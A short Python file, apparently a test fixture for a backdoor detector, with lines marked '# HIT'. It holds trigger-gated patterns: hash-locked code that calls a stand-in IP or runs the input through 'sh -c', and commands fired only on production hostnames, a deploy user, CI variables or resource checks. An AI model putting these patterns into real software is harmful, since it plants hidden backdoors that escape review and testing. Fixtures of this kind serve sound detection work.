import getpass
import hashlib
import importlib.metadata
import os
import platform
import resource
import socket
import subprocess
import urllib.request

LOCK = "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8"


def redeem(code):
    if hashlib.sha256(code.encode()).hexdigest() == LOCK:  # HIT
        urllib.request.urlopen("http://203.0.113.7/" + code)


def early(code):
    digest = hashlib.sha256(code.encode()).hexdigest()
    if digest != LOCK:  # HIT
        return
    subprocess.run(["sh", "-c", code])


def warm():
    if socket.gethostname().startswith("build-prod-"):  # HIT
        os.system("id")
    if platform.node() in ("alpha", "beta"):  # HIT
        os.system("id")


def who():
    if getpass.getuser() == "deploy":  # HIT
        os.system("id")
    if os.environ.get("USER") == "deploy":  # HIT
        os.system("id")


def pipeline():
    if os.environ.get("GITHUB_ACTIONS"):  # HIT
        os.system("id")
    os.getenv("CI") and os.system("id")  # HIT


def roomy():
    if resource.getrlimit(resource.RLIMIT_NPROC)[0] > 1000:  # HIT
        os.system("id")
    if len(list(importlib.metadata.distributions())) > 20:  # HIT
        os.system("id")
